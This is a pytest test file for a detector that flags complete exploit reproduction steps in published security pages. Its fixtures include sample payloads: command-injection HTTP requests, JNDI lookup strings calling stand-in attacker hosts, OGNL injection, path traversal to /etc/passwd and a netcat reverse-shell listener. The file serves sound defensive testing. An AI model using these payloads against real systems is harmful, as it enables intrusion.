"""CAC403 reproduction-steps detector: true positives and near misses, in process."""

from __future__ import annotations

import textwrap
import time

import pytest

from mkdocs_threatpub.scanners.base import Hit
from mkdocs_threatpub.scanners.detectors.reproduction_steps import (
    DETECTOR,
    is_reproduction_heading,
)
from mkdocs_threatpub.scanners.document import document_from_text
from tests.detectors._network import translated


def scan(text: str) -> list[Hit]:
    return translated(list(DETECTOR.scan(document_from_text(textwrap.dedent(text).lstrip("\n")))))


def line_of(text: str, needle: str) -> int:
    lines = textwrap.dedent(text).lstrip("\n").split("\n")
    return next(i for i, line in enumerate(lines, start=1) if needle in line)


# --- true positives: commands or requests AND evidence -> strong (hold) --------------------

EN_CURL_UID = """
    # Template injection in ExampleCMS 3.2

    Versions before 3.2.1 are affected.

    ## Steps to reproduce

    1. Send the crafted template:

    ```bash
    curl -s -X POST http://victim.internal:8080/render -d 'tpl={{7*7}}'
    ```

    2. The response contains the command output:

    ```text
    uid=0(root) gid=0(root) groups=0(root)
    ```

    ## Fix

    Upgrade to 3.2.1.
"""

ZH_RAW_REQUEST = """
    # 示例 OA 系统远程命令执行漏洞

    ## 漏洞复现

    发送如下数据包：

    ```http
    POST /api/upload HTTP/1.1
    Host: your-ip:8080
    Content-Type: application/x-www-form-urlencoded

    cmd=id
    ```

    可以看到命令已经成功执行，返回了结果。
"""

POC_SYSTEM = """
    ### PoC

    ```powershell
    PS C:\\Users\\lab> python poc.py --target 192.168.56.10
    [+] done
    ```

    The reply shows `nt authority\\system`.
"""

NESTED = """
    ## Exploitation

    ### Step 1: trigger the bug

    ```
    GET /cgi-bin/status?x=;id HTTP/1.1
    Host: router.lan
    ```

    ### Step 2: enjoy

    ```
    root@router:~# id
    ```

    ## Timeline

    Reported in March.
"""

TOUCH_CHECK = """
    ## Reproduction

    Send the payload `${jndi:ldap://attacker.invalid/a}` in the `User-Agent` header, with the
    command set to `touch /tmp/pwned`. Then check the container:

    ```
    docker compose exec app ls -l /tmp/pwned
    ```
"""

CALLBACK = """
    ## 复现步骤

    在搜索框输入 `${jndi:dns://abc.dnslog.invalid/x}` 并提交。

    稍后在 DNSLog 平台收到了 DNS 请求，证明漏洞存在。
"""

NC_LISTENER = """
    ## Proof of Concept

    ```console
    $ nc -lvnp 4444
    listening on [any] 4444 ...
    connect to [10.0.0.5] from (UNKNOWN) [10.0.0.9] 51234
    ```
"""

# Evidence hidden behind HTML entities is still evidence (the decoded views are scanned).
ENTITIES = """
    ## PoC

    ```
    curl http://target.invalid:8080/run?c=id
    uid=0&#40;root&#41; gid=0&#40;root&#41;
    ```
"""


# An OGNL expression in a header, proven by arithmetic the server evaluated.
OGNL_ARITHMETIC = """
    ## Exploitation

    ```
    GET /index.action HTTP/1.1
    Host: app.victim.invalid
    Content-Type: %{(#x=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#r=7*191)}.multipart/form-data
    ```

    It can be seen that the result of 7*191 has been returned in a response header.
"""

ZH_OUTPUT_SHOWN = """
    ## 复现过程

    ```
    POST /admin/exec HTTP/1.1
    Host: victim.invalid

    cmd=id
    ```

    可见，`id` 命令的返回结果直接显示在页面中。
"""


@pytest.mark.parametrize(
    ("page", "heading", "action", "evidence"),
    [
        (OGNL_ARITHMETIC, "## Exploitation", "expression-language injection", "command output"),
        (ZH_OUTPUT_SHOWN, "## 复现过程", "raw HTTP request", "command output"),
        (EN_CURL_UID, "## Steps to reproduce", "curl or wget command", "user and group id"),
        (ZH_RAW_REQUEST, "## 漏洞复现", "raw HTTP request", "success message"),
        (POC_SYSTEM, "### PoC", "Python command", "SYSTEM privileges"),
        (NESTED, "## Exploitation", "raw HTTP request", "root shell prompt"),
        (TOUCH_CHECK, "## Reproduction", "JNDI lookup injection", "file created"),
        (CALLBACK, "## 复现步骤", "JNDI lookup injection", "callback"),
        (NC_LISTENER, "## Proof of Concept", "netcat command", "reverse connection"),
        (ENTITIES, "## PoC", "curl or wget command", "user and group id"),
    ],
    ids=[
        "ognl",
        "zh-output",
        "en-curl-uid",
        "zh-raw-request",
        "poc-system",
        "nested",
        "touch",
        "dnslog",
        "nc",
        "entities",
    ],
)
def test_commands_with_evidence_hold(page: str, heading: str, action: str, evidence: str) -> None:
    hits = scan(page)
    assert len(hits) == 1, hits
    h = hits[0]
    assert h.strong
    assert h.rule == "CAC403"
    assert h.detector == "reproduction-steps"
    assert h.line == line_of(page, heading)
    assert action in h.what
    assert evidence in h.what
    assert "complete reproduction steps" in h.what


def test_what_never_quotes_the_content() -> None:
    for page in (EN_CURL_UID, ZH_RAW_REQUEST, POC_SYSTEM, NESTED, TOUCH_CHECK, CALLBACK):
        (h,) = scan(page)
        for secret in (
            "uid=0",
            "victim",
            "/tmp/pwned",
            "${jndi",
            "dnslog",
            "POST /",
            "root@",
            "authority",
            "漏洞复现",
            "Steps to reproduce",
            "{{7*7}}",
        ):
            assert secret.lower() not in h.what.lower(), (secret, h.what)


def test_section_line_span_is_reported() -> None:
    (h,) = scan(EN_CURL_UID)
    start = line_of(EN_CURL_UID, "## Steps to reproduce")
    end = line_of(EN_CURL_UID, "## Fix") - 1
    assert f"lines {start}–" in h.what
    assert start < end


# --- weak: commands or requests without evidence -> warn only -----------------------------

REQUEST_ONLY = """
    ## Proof of Concept

    ```
    GET /download?file=../../../../etc/passwd HTTP/1.1
    Host: your-ip
    ```

    The server returns the file.
"""

CURL_ONLY = """
    ## How to reproduce

    ```sh
    curl -k https://device.invalid/cgi-bin/login.cgi --data 'user=admin'
    ```
"""

EVIDENCE_IN_NEXT_SECTION = """
    ## PoC

    ```
    wget http://victim.invalid:9000/?q=1
    ```

    ## Impact

    ```
    uid=0(root) gid=0(root)
    ```
"""


# A bug reproduction: its "result" and "output" are not an attack's command output.
SLOW_RESPONSE = """
    ## Steps to reproduce

    ```
    curl -d @big.json http://localhost:8080/api
    ```

    The result is returned after 30 seconds; the output of the parser is shown below.
"""


@pytest.mark.parametrize(
    "page",
    [REQUEST_ONLY, CURL_ONLY, EVIDENCE_IN_NEXT_SECTION, SLOW_RESPONSE],
    ids=["request", "curl", "split", "slow-response"],
)
def test_commands_without_evidence_only_warn(page: str) -> None:
    hits = scan(page)
    assert len(hits) == 1, hits
    assert not hits[0].strong
    assert "no evidence of success" in hits[0].what


def test_weak_and_strong_fingerprints_differ() -> None:
    weak = scan(EVIDENCE_IN_NEXT_SECTION)[0]
    strong = scan(EVIDENCE_IN_NEXT_SECTION.replace("## Impact", "### Output"))[0]
    assert strong.strong
    assert not weak.strong
    assert weak.fingerprint != strong.fingerprint


def test_fingerprint_ignores_moving_the_section() -> None:
    moved = scan("\n\n\nIntro.\n\n" + textwrap.dedent(EN_CURL_UID))
    assert moved[0].fingerprint == scan(EN_CURL_UID)[0].fingerprint
    assert moved[0].line != scan(EN_CURL_UID)[0].line


# --- near misses: nothing at all ----------------------------------------------------------

PROSE_ONLY = """
    ## Steps to reproduce

    Open a file with a very long line in the editor and observe the crash. An attacker who
    successfully exploited this could run code; we successfully executed the test suite.
"""

EVIDENCE_WITHOUT_COMMANDS = """
    ## 漏洞复现

    我们成功执行了任意命令，并获得了 shell（截图略）。
"""

NOT_A_REPRODUCTION_SECTION = """
    ## Details

    ```
    curl http://victim.invalid/x
    uid=0(root) gid=0(root)
    ```
"""

DEFENSIVE_HEADINGS = """
    ## Detecting exploitation

    ```
    curl -s http://localhost:8080/actuator/health
    ```

    The request succeeds: the command executed successfully.

    ## 漏洞利用情况

    目前未发现在野利用。`curl http://127.0.0.1:8080/` 执行成功即服务正常。

    ## 复现环境搭建

    ```
    docker compose up -d
    curl http://your-ip:8080/
    ```

    启动成功后，命令执行成功。
"""

PROSE_MENTIONS = """
    ## Proof of concept

    A proof of concept exists; use curl or wget to fetch the patched package, and python to
    run the test suite. The exploit payload is not published. CVE-2024-12345 is exploited in
    the wild.

    ```
    curl --version
    python -m pip install --upgrade example
    ```
"""

C_CODE = """
    ## Exploit

    ```c
    int main(void) {
        sleep(1);
        return trigger();
    }
    ```
"""

EXPLOIT_WORDS_IN_HEADINGS = """
    ## Exploitability

    ```
    curl http://victim.invalid/x
    uid=0(root) gid=0(root)
    ```

    ## Known exploits

    ```
    wget http://victim.invalid/y
    ```
"""


@pytest.mark.parametrize(
    "page",
    [
        PROSE_ONLY,
        EVIDENCE_WITHOUT_COMMANDS,
        NOT_A_REPRODUCTION_SECTION,
        DEFENSIVE_HEADINGS,
        PROSE_MENTIONS,
        C_CODE,
        EXPLOIT_WORDS_IN_HEADINGS,
    ],
    ids=[
        "prose",
        "evidence-only",
        "no-heading",
        "defensive",
        "mentions",
        "c-code",
        "exploitability",
    ],
)
def test_near_misses(page: str) -> None:
    assert scan(page) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Steps to reproduce", True),
        ("Proof-Of-Concept", True),
        ("**PoC**", True),
        ("Vulnerability Reproduce", True),
        ("Exploit", True),
        ("漏洞复现", True),
        ("复现过程", True),
        ("利用过程", True),
        ("漏洞利用", True),
        ("利用方法", True),
        ("ＰｏＣ", True),
        ("Exploitability", False),
        ("Known exploits", False),
        ("Exploitation status", False),
        ("Mitigating exploitation", False),
        ("Reproduction environment setup", False),
        ("漏洞利用情况", False),
        ("复现环境", False),
        ("Impact", False),
        ("Reproducible builds", False),
    ],
)
def test_heading_words(text: str, expected: bool) -> None:
    assert is_reproduction_heading(text) is expected


def test_keyword_prefilter_is_lower_case() -> None:
    assert all(k == k.lower() for k in DETECTOR.keywords)


# --- linear time --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filler",
    [
        "a" * 100_000,
        " " * 5_000,
        "curl " * 20_000,
        "GET /" + "a" * 100_000 + " HTTP/1.1",
        "touch /tmp/x " * 10_000,
        "uid=0(" * 20_000,
        "${jndi:" * 15_000,
        "../" * 33_000,
    ],
    ids=["long-line", "spaces", "curl", "request", "touch", "uid", "jndi", "traversal"],
)
def test_pathological_input_is_fast(filler: str) -> None:
    page = f"## PoC\n\n```\n{filler}\n```\n\n{filler}\n\n`{filler[:1900]}`\n"
    started = time.perf_counter()
    list(DETECTOR.scan(document_from_text(page)))
    assert time.perf_counter() - started < 0.5


def test_many_sections_are_fast() -> None:
    block = "## PoC\n\n```\ncurl http://victim.invalid/x\nuid=0(root) gid=0(root)\n```\n\n"
    page = block * 1_000
    started = time.perf_counter()
    hits = translated(list(DETECTOR.scan(document_from_text(page))))
    assert time.perf_counter() - started < 1.0
    assert len(hits) == 1_000
    assert all(h.strong for h in hits)
